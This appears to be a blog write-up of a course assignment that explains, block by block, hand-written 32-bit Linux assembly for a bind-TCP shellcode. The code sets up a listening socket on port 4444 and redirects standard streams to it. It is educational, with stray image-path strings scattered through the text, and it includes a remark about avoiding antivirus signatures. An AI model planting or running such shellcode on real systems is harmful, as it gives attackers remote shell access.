Skip to main content

SLAE32 - Assignment 1

In preparation for the next Offensive Security certification class and challenge (CTP and OSCE), I decided to invest some time and energy into the Security Tube Linux Assembly Expert 32-bit class. That way I can have a solid foundation in understanding the finer workings of Assembly. Especially since my focus for my second Bachelor's degree was more along the lines of system administration and back-end web development instead of the programming focus of Computer Science. Still, I never stop with my learning and barely slow down at times.

This was the first assignment out of seven (7) and the requirements for assignment one (1) were as follows:

  1. Create a Shell_Bind_TCP shellcode
    1. Binds to a port
    2. Execs shell upon connection
  2. The PORT number should be easily configurable

This is a pretty standard request but I must admit the process was only somewhat familiar. I knew I could write the code pretty easily once I understood the process. For this, I had to fall back on my love for Python to understand what needed to be done. I also relied heavily on man pages along with several of the following header files.

  1. /usr/include/i386-linux-gnu/asm/unistd_32.h
  2. /usr/include/linux/net.h
  3. /etc/protocols

From my knowledge of Python, Iknew I had to use Assembly to perform the following tasks:

  1. Create a socket
  2. Bind the created socket
  3. Listen on the created socket
  4. Accept connections on the createdsocket
  5. Redirect the created socket to standard in, out, and error
  6. Assuming all the above was successful, use EXECVE to run a shell

From the get go, I set out to code as many assignments as I could using the assembly knowledge learned from the course. I did this purposely because I wanted to be sure I could actually write assembly and dump the shellcode by hand, especially since freely available tools that generate shellcode have well known signatures that get picked up by Antivirus or Intrusion Detection/Prevention systems.

The full script can be found here:

Supplemental scripts that I developed for this class can be found on GitHub at the following location:

Like any .nasm script, we'll need to make some declarations. In this specific script, we'll communicate to the linker and compiler that we're going to use _start as our script starting point. We'll also define our .text section and the first block of code under _start:.

global _start

section .text


     ; This block sets up our socket EAX will contain the
     ; return value. We'll need to use this value later

     xor eax, eax         ; clean up eax to eliminate NULL bytes
     xor ebx, ebx         ; clean up ebx to eliminate NULL bytes
     xor ecx, ecx; clean up ecx to eliminate NULL bytes
     push 0x6             ; 3rd parameter TCP protocol to SYS_SOCKET
     push 0x1             ; 2nd parameter SOCK_STREAM to SYS_SOCKET
     push 0x2             ; 1st parameter AF_INET
     mov al, 0x66         ; define __NR_socketcall  102 (0x66)
     mov bl, 0x1          ; define SYS_SOCKET   1 (0x1)
     mov ecx, esp         ; ecx now contains address totop of stack for parameters
     int 0x80; execute

     mov edi, eax         ; store our return value for later

We then initialize our EAX, EBX, and ECX registers using the XOR instruction. The idea here is that we need to avoid a NULL (0x00) byte at all costs or otherwise risk our script not running properly. This is due to the fact a NULL byte is used to terminate strings. So, if any NULLbytes make it into our assembly program, we will run into issues when it comes time to execute the program. One thing to remember here is that any value XOR with itself will always be 0x00. That's why we use the XOR instruction to initialize our registers.

global _start

section .text


     ; This block sets up our socket EAX will contain the
     ; return value. We'll need to use this value later

     xor eax, eax         ; clean up eax to eliminate NULL bytes
     xor ebx, ebx         ; clean up ebx to eliminate NULL bytes
     xor ecx, ecx         ; clean up ecx to eliminate NULL bytes

These next instructions prepare our parameters by pushing them onto the stack. When we are executing a SOCKETCALL syscall, we have to put the initial system call into EAX (this is where SOCKETCALL goes), the next system call goes into EBX (this is where SOCKET, BIND, LISTEN, and ACCEPT will go), and the parameters to our second system call will go into ECX as a pointer. This is why we push the parameters to SOCKET onto the stack in reverse order. The pointer to the stack, or the stack pointer address will eventually get copied into ECX.push 0x6             ; 3rd parameter TCP protocol to SYS_SOCKET
     push 0x1             ; 2nd parameter SOCK_STREAM to SYS_SOCKET
     push 0x2             ; 1st parameter AF_INET

Let's look into each of these values. Essentially we'repushing the values 6 (0x6), 1 (0x1), and 2 (0x2) onto the stack. If we run cat /etc/protocols we see that the TCP protocol is number 6 in the list.

If we run man 2 socket in a terminal we can get the values for the last two push instructions. Notice in the image below that SOCK_STREAM is the first option (near the bottom of the image) for the type of socket we need to create. We want to choose SOCK_STREAM because we want to use the TCP protocol. We also choose AF_INET because we want to use bind to an IPv4 address (

So why do we push these onto the stack in what appears to be backwards order?The answer is simple! The stack operates on a Last In First Out (LIFO) basis. That means if we want to call our parameters in the correct order, we'll push them onto the stack in reverse order so that when we POP them off of the stack, or in our case when the pointer is called, the parameters will execute in the correct order. Moving along we come across our next set of instructions. In order to figure out what our SOCKETCALL system call is, we'll look in /usr/include/i386-linux-gnu/asm/unistd_32.h (your location may differ slightly depending upon your distribution of Linux).

Great, we see that system call number 102 is our SOCKETCALL which in hexadecimal is 0x66. We move this into al which is an 8-bit register within EAX. Next, we copy 0x1 (SOCKET) into bl and move the pointer to our SOCKET parameters into ECX. Finally we send the interrupt 0x80 signal and create our socket. If it succeeds, we'll get a positive integer returned if the socket is created successfully. Since we'll need this return value for BIND, LISTEN, and ACCEPT, we'll have to store it in a different register. For this, we'll use EDI.

     mov al, 0x66         ; define __NR_socketcall  102 (0x66)
     mov bl, 0x1          ; define SYS_SOCKET   1 (0x1)
     mov ecx, esp         ; ecx now contains address to top of stack for parameters
     int0x80             ; execute

     mov edi, eax         ; store our return value for later

Our next bit of code starts a JMP-CALL-POP technique. This will short jump to our portconfig label. Once we short jump into portconfig, we call call_bind. When we make the call, EIP will contain the address to the portnum dw 0x5c11 instruction, and this will get pushed onto the stack.


     ; JMP CALL POP technique for port should do nicely
     jmp short portconfigcall call_bind
     portnum dw 0x5c11   ; port 4444 (0x115c) don't forget little endian

The first instruction in our call_bind pops the address to our portnum dw 0x5c11 instruction into ESI. We now have the address of this instruction in a register and can use it in our BIND system call. This technique works well because hard coding any address into our program means our program may not work each time we execute it, plus we run the risk of the program not working on other flavors of Linux. In this block of code, it's important to notice we'll need our SOCKETFD from our SOCKET system call.


     ; get the port off of stack and store it temporarily
     ; there is some interesting referencing here for
     ; int bind(int sockfd, const struct sockaddr *addr,
     ;        socklen_t addrlen)
     ; need to handle the struct *addr
     ; struct sockaddr {
     ;       sa_family_t sa_family;
     ;       char        sa_data[14];
     ;   }

     pop esi             ; this should be our listening port JMP/CALL/POP
     xor eax, eax        ; clean out eax
     xor ebx, ebx        ; clean out ebx
     xor ecx, ecx        ; clean out ecx
     xor edx, edx        ; clean out edx
     push eax            ; we'll need to listen on
     push word [esi]     ; port pushed onto stack make sure to ONLY push 2 bytes
     mov al, 0x2         ; AF_INET IPv4 Internet protocols
     push ax             ; now our stack is set up
     mov edx, esp        ; store the stack address (of our struct)
     push 0x10           ; store length addr on stack
     push edx            ; now we need to push the pointer to our struct onto stack
     push edi            ; here's our returned socketfd from our SOCKET only 1 byte
     xor eax, eax        ; clean out eax again
     mov al, 0x66        ; define __NR_socketcall  102 (0x66)
     mov bl,0x2         ; define SYS_BIND  2 (0x2)
     mov ecx, esp        ; parameters for bind, ecx should already be cleaned out
     int 0x80            ; call it, 0 will be returned on success

Our next section uses SOCKETCALL to call LISTEN. We'll need to use our original SOCKETFD again so that we listen on the original socket. This block follows a similar process as the socket and bind blocks.


     ; now we need to listen forconnections
     ; int listen(int sockfd, int backlog);
     ; good thing we didn't get rid of edi
     ; since we'll need it here and
     ; for accept()

     xor eax, eax        ; clean out eax
     xor ebx, ebx        ; clean out ebx
     xor ecx, ecx        ; clean out ecx
     push 0x1            ; int backlog
     push edi            ; int sockfd only a byte
     mov al, 0x66        ; define __NR_socketcall  102 (0x66)
     mov bl, 0x4         ; define SYS_LISTEN  4
     mov ecx, esp        ; parameters into ecx
     int 0x80            ; call itI'll group the next two blocks of code together because they relate to each other as the second block requires the return value from the first block. Once we have our socket bound and listening, we'll need to accept connections to the socket. A quick review of the man 2 accept shows us what's needed for the ACCEPT system call.

Right of way we notice that int accept(int sockfd, struct sockaddr *addr, socklen_t *addrlen) takes our socketfd from our original socket system call, and then a struct including an address, and finally addrlen indicating that if we use an actual IP address to accept connections on, we'll need to calculate how long that address is in bytes. However, as you can see in my verbose comments in the code below, there is an important detail with ACCEPT. If our address is NULL then our addrlen must also be NULL. This works well since we'll listen on all interfaces We will call ACCEPT much like the rest of our socket using the SOCKETCALL system call with the ACCEPT system call. Onceour registers are set up, we'll use the interrupt signal to execute. The return value for this system call will get stored in EAX. The next set of instructions calls the DUP2 system call to redirect our ACCEPTFD to standard in, out, and error. Thisallows us to interact with the socket directly from a shell program. We'll launch this shell program next once we send the interrupt signal and execute the DUP2 system call.


     ; now we accept connections
     ; in this case we can use NULL
     ; values for addr. We'll have to
     ; we can be a bit lazier with this one
     ; int accept(int sockfd, struct sockaddr *addr, socklen_t *addrlen)
     ; The argument addr is a pointer to a sockaddr structure.
     ; This structure is filled in with the address of the peer
     ; socket, as known to the communications layer.  The exact
     ; format of the address returned addr is determined by the
     ; socket's address family (see socket(2) and the respective
     ; protocol man pages).  When addr is NULL, nothing is filled
     ; in. In this case, addrlen is  not  used, and should also be NULL.

     xor eax, eax        ; clean eax
     xor ebx, ebx        ; clean ebx
     push eax            ; set up null space addrlen
     push ebx            ; setup more nullspace for addr
     push edi            ; socketfd
     mov al, 0x66        ; define __NR_socketcall  102 (0x66)
     mov bl, 0x5         ; define SYS_ACCEPT 5
     mov ecx, esp        ; parameters to define SYS_ACCEPT
     int 0x80            ; call it, eax will hold the new fd; changes std in, out, error to the socket
     ; this is necessary for getting /bin/bash
     ; through the socket connection
     ; we'll use define __NR_dup2 63 (0x3f)
     ; int dup2(int oldfd, int newfd)

     mov ebx, eax        ; take fd from accept() as oldfd
     xor ecx, ecx        ; 0 (std in) in ecx
     xor eax, eax        ; clean out eax
     mov al, 0x3f        ; define __NR_dup2    63 (0x3f)
     int 0x80            ; call it
     mov al, 0x3f        ; dup2
     inc ecx             ; 1 (std out) in cl
     int 0x80            ; call it
     mov al, 0x3f        ; dup2
     inc ecx             ; 2 (std error) in cl
     int 0x80            ; call it

